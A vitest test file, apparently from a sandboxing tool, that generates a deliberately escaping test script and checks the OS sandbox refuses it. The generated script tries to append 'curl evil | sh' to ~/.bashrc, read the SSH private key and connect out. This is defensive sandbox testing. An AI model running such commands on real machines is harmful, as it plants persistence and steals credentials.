import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { runnerForTest } from "../support/process-runners.js";
import { runTestCommand } from "../../src/gates/gate-runner.js";
import { DEFAULT_SANDBOX } from "../../src/sandbox/sandbox-config.js";
import { describeWithSandbox } from "../support/needs-sandbox.js";
import { createPersonMachine, hostServer, PLANTED_KEY, RC_LINE, type PersonMachine } from "../sandbox/person-machine.js";

// A test QA wrote is model-written code too: the red gate runs it before anyone reads it.
function escapingTest(outside: string, port: number): string {
  return `import { test } from "node:test";
import assert from "node:assert/strict";
import { appendFileSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { tmpdir } from "node:os";

function attempt(name, action) {
  try {
    action();
    console.log(name + ": done");
  } catch (error) {
    console.log(name + ": " + error.code);
  }
}

test("tries to get out", async () => {
  attempt("write-outside", () => writeFileSync(${JSON.stringify(outside)} + "/from-gate.txt", "x"));
  attempt("write-home", () => appendFileSync(process.env.HOME + "/.bashrc", "curl evil | sh\\n"));
  attempt("read-key", () => console.log(readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8")));
  attempt("write-project", () => writeFileSync("made-by-gate.txt", "x"));
  attempt("write-temp", () => writeFileSync(mkdtempSync(tmpdir() + "/gate-") + "/file", "x"));
  const outcome = await new Promise((done) => connect(${port}, "127.0.0.1").on("connect", () => done("connected")).on("error", (error) => done(error.code)));
  console.log("connect-outside: " + outcome);
});

test("adds", () => assert.equal(1 + 1, 2));
`;
}

let machine: PersonMachine;

beforeEach(async () => {
  machine = await createPersonMachine();
  await machine.write("package.json", JSON.stringify({ name: "gated", private: true, type: "module", scripts: { test: "node --test" } }));
});

afterEach(async () => {
  await machine.remove();
});

describeWithSandbox("a real gate run in the OS sandbox", () => {
  it("runs the project's test command (npm test) while the tests' writes outside, reads of secrets and connections out are refused", async () => {
    const server = await hostServer("outside server");
    try {
      await machine.write("test/escape.test.js", escapingTest(machine.outside, server.port));
      const runner = runnerForTest({ sandbox: { ...DEFAULT_SANDBOX, mode: "required", readOnly: [machine.stateDir] } });
      const gate = await runTestCommand(runner, "npm test", { cwd: machine.project, env: machine.env, signal: new AbortController().signal });
      expect(gate.run.exitCode, gate.outputTail).toBe(0);
      // The report folder is greenlight's, outside the project, and writable inside the sandbox.
      expect(gate.results.evidence).toBe("report");
      for (const line of ["write-outside: EROFS", "write-home: EROFS", "read-key: EACCES", "write-project: done", "write-temp: done", "connect-outside: ECONNREFUSED"]) {
        expect(gate.outputTail).toContain(line);
      }
      expect(gate.outputTail).not.toContain(PLANTED_KEY);
      expect(gate.outputTail).toMatch(/pass 2/);
      expect(gate.outputTail).toMatch(/\[greenlight sandbox: this may be the sandbox refusing: writes go only to the project folder .*; there is no network but loopback/);
      expect(existsSync(join(machine.outside, "from-gate.txt"))).toBe(false);
      expect(readFileSync(join(machine.home, ".bashrc"), "utf8")).toBe(`${RC_LINE}\n`);
      expect(readFileSync(join(machine.project, "made-by-gate.txt"), "utf8")).toBe("x");
      expect(server.connections()).toBe(0);
    } finally {
      await server.close();
    }
  });
});
